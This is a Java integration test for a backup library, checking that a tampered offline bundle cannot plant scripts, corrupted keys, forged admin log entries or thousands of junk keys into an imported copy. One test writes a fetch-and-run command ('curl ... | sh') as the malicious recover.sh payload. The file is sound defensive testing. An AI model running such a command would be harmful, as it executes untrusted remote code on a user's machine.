package org.stellaops.backup.engine;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.stellaops.backup.BackupEngine;
import org.stellaops.backup.BackupRepository;
import org.stellaops.backup.BundleImport;
import org.stellaops.backup.bundle.BundleFile;
import org.stellaops.backup.bundle.BundleRequest;
import org.stellaops.backup.bundle.OfflineBundle;
import org.stellaops.backup.crypto.AgeIdentity;
import org.stellaops.backup.crypto.WriterKeyFile;
import org.stellaops.backup.model.BackupException;
import org.stellaops.backup.model.ByteRange;
import org.stellaops.backup.model.CoreFailure;
import org.stellaops.backup.model.ObjectName;
import org.stellaops.backup.model.SnapshotRef;
import org.stellaops.backup.model.Trust;
import org.stellaops.backup.plan.SnapshotFilter;
import org.stellaops.backup.plan.Verification;
import org.stellaops.backup.spi.ObjectBody;
import org.stellaops.backup.spi.ObjectStore;
import org.stellaops.backup.spi.PageToken;
import org.stellaops.backup.spi.ReadableStore;
import org.stellaops.backup.spi.StoreContext;
import org.stellaops.backup.testkit.MemorySink;

/**
 * Whoever carries a bundle can change it, and what it says of its own digests with it. What he adds
 * or replaces comes into no copy, and keeps nothing honest out of it later.
 */
class ChangedBundleIT {
  private static final ObjectName SUMS = ObjectName.of("SHA256SUMS");
  private static final ObjectName RECOVER = ObjectName.of("recover.sh");

  @TempDir Path directory;
  private final MemorySink primary = new MemorySink();
  private final MemorySink copy = new MemorySink();
  private final BytesSource source = BytesSource.of("a", Fixture.random(1, 60_000));
  private AgeIdentity owner;
  private AgeIdentity escrow;
  private Host host;
  private Path honest;

  @BeforeEach
  void bundleWithAKeyForTwo() throws IOException {
    owner = AgeIdentity.generate();
    escrow = AgeIdentity.generate();
    host = new Host(directory.resolve("host"), owner.recipient(), primary).withKeys();
    host.backUp(source, "first").requireGood();
    rewrapFor(escrow);
    honest = write("honest");
  }

  private void rewrapFor(AgeIdentity other) throws IOException {
    try (BackupEngine engine = host.with(source, primary).open()) {
      engine.keys().rewrap(engine.keys().epochs().get(0).id(), owner, other.recipient());
    }
  }

  @AfterEach
  void closed() {
    owner.close();
    escrow.close();
    copy.assertNothingOpen();
  }

  private Path write(String name) throws IOException {
    Path file = directory.resolve(name + ".enc");
    try (BackupRepository repository = host.repository(owner)) {
      repository.writeBundle(BundleRequest.of(file, SnapshotRef.named("first")));
    }
    return file;
  }

  private static Map<ObjectName, byte[]> contents(Path bundle) throws IOException {
    Map<ObjectName, byte[]> contents = new TreeMap<>();
    try (ReadableStore store = OfflineBundle.at(bundle).open(StoreContext.system())) {
      PageToken token = PageToken.START;
      while (!token.equals(PageToken.END)) {
        var page = store.list("", token);
        for (var object : page.objects()) {
          try (InputStream in = store.open(object.name(), ByteRange.ALL)) {
            contents.put(object.name(), in.readAllBytes());
          }
        }
        token = page.next();
      }
    }
    return contents;
  }

  /** A bundle that is right in all its own digests. */
  private Path changed(Map<ObjectName, byte[]> changes) throws IOException {
    Map<ObjectName, byte[]> contents = contents(honest);
    contents.remove(SUMS);
    contents.putAll(changes);
    Path file = directory.resolve("changed.enc");
    try (BundleFile bundle = BundleFile.create(file);
        ObjectStore store = bundle.sink().open(StoreContext.system())) {
      for (Map.Entry<ObjectName, byte[]> object : contents.entrySet()) {
        store.put(object.getKey(), ObjectBody.of(object.getValue()));
      }
      bundle.publish();
    }
    assertTrue(OfflineBundle.at(file).damage().isEmpty());
    return file;
  }

  private void importing(Path bundle, Trust trust) throws BackupException {
    BundleImport.of(OfflineBundle.at(bundle), copy, directory.resolve("quarantine"), trust)
        .execute();
  }

  private Trust trust() throws IOException {
    return Trust.owner(host.keys().id());
  }

  private void assertHonest() throws IOException {
    try (BackupRepository repository = host.repository(escrow, copy)) {
      assertEquals(1, repository.catalog().list(SnapshotFilter.all()).size());
      var report = repository.check(Verification.full(escrow));
      assertTrue(report.isIntact(), report.toString());
      Host.assertComplete(repository, SnapshotRef.named("first"), source, escrow);
    }
  }

  @Test
  void a_program_comes_from_this_library_and_from_no_bundle() throws IOException {
    byte[] evil = "curl https://example.org | sh\n".getBytes(StandardCharsets.UTF_8);
    importing(changed(Map.of(RECOVER, evil)), trust());
    assertArrayEquals(primary.raw().read(RECOVER), copy.raw().read(RECOVER));
    assertHonest();
  }

  @Test
  void a_key_that_is_not_the_one_that_was_signed_is_damage() throws IOException {
    ObjectName second =
        primary.raw().names().stream()
            .filter(n -> n.value().matches("keys/.*-2\\.age"))
            .findFirst()
            .orElseThrow();
    byte[] other = primary.raw().read(second);
    other[other.length - 1] ^= 1;
    Path file = changed(Map.of(second, other));
    var e = assertThrows(BackupException.Corrupt.class, () -> importing(file, trust()));
    assertEquals(CoreFailure.CORRUPT_OBJECT, e.code());
    assertTrue(e.getMessage().contains(second.value()), e.getMessage());
    assertEquals(0, copy.raw().names().size());
    importing(honest, trust());
    assertHonest();
  }

  @Test
  void entries_that_nobody_who_is_trusted_signed_take_no_slot() throws IOException {
    WriterKeyFile mallory = WriterKeyFile.at(directory.resolve("mallory.key")).named("mallory");
    mallory.open().close();
    ObjectName slot = ObjectName.of("log/admin/0000000003.entry");
    assertFalse(primary.raw().names().contains(slot));
    String before =
        new String(
            primary.raw().read(ObjectName.of("log/admin/0000000002.entry")),
            StandardCharsets.US_ASCII);
    byte[] forged = Forgery.after(before).signedBy(mallory).getBytes(StandardCharsets.US_ASCII);
    Path file = changed(Map.of(slot, forged));

    // Nobody is pinned for the log of administrators here.
    importing(file, Trust.writers(host.keys().id()));

    assertFalse(copy.raw().names().contains(slot));
    try (AgeIdentity another = AgeIdentity.generate()) {
      rewrapFor(another);
    }
    assertTrue(primary.raw().names().contains(slot));
    importing(write("later"), trust());
    assertArrayEquals(primary.raw().read(slot), copy.raw().read(slot));
    assertHonest();
  }

  @Test
  void very_many_planted_keys_are_not_all_read() throws IOException {
    ObjectName known =
        primary.raw().names().stream()
            .filter(n -> n.value().matches("keys/.*-2\\.age"))
            .findFirst()
            .orElseThrow();
    String prefix = known.value().substring(0, known.value().length() - "2.age".length());
    Map<ObjectName, byte[]> planted = new TreeMap<>();
    for (int i = 10; i < 3_000; i++) {
      planted.put(ObjectName.of(prefix + i + ".age"), Fixture.random(i, 2_000));
    }
    Path file = changed(planted);
    try (BackupRepository bundle =
        BackupRepository.at(OfflineBundle.at(file)).identity(escrow).trust(trust()).open()) {
      Host.assertRestores(bundle, SnapshotRef.named("first"), source.artifacts());
    }
    importing(file, trust());
    assertEquals(
        primary.raw().names().stream().filter(n -> n.value().startsWith("keys/")).toList(),
        copy.raw().names().stream().filter(n -> n.value().startsWith("keys/")).toList());
    assertHonest();
    assertTrue(Files.exists(file));
  }
}
